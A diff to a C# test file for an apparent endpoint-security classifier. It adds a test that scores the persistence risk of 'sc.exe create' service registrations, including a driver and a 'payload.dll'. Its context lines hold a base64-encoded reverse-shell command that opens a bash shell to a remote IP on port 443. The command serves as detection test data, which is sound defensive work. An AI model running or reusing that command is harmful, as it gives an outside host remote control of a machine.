@@ -344,4 +344,21 @@ public sealed class EndpointProductTests
         var shell = ecs("sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC85MS4yMTUuODUuMTQvNDQzIDA+JjE= | base64 -d | bash");
         Assert.NotEqual(Classification.Benign, shell.Classification);
     }
+
+    [Fact]
+    public void A_service_whose_program_under_program_files_has_no_exe_extension_is_an_installed_program_but_a_driver_there_is_not()
+    {
+        static double Persistence(Assessment a) => a.Evidence.Single(e => e.Key == "persistence").Weight;
+        var installed = AssessAlert("Suspicious service registration", "j.dev",
+            @"sc.exe create com.vendor.backend binPath= ""C:\Program Files\Vendor\App\com.vendor.backend"" start= auto");
+        Assert.True(Persistence(installed) <= 0.6);
+
+        var driver = AssessAlert("Suspicious service registration", "j.dev",
+            @"sc.exe create vdrv type= kernel binPath= ""C:\Program Files\Vendor\App\vdrv.sys"" start= auto");
+        Assert.True(Persistence(driver) > 0.6);
+        var library = AssessAlert("Suspicious service registration", "j.dev",
+            @"sc.exe create vsvc binPath= ""C:\Program Files\Vendor\App\payload.dll"" start= auto");
+        Assert.True(Persistence(library) > 0.6);
+        Assert.NotEqual(Classification.Benign, driver.Classification);
+    }
 }
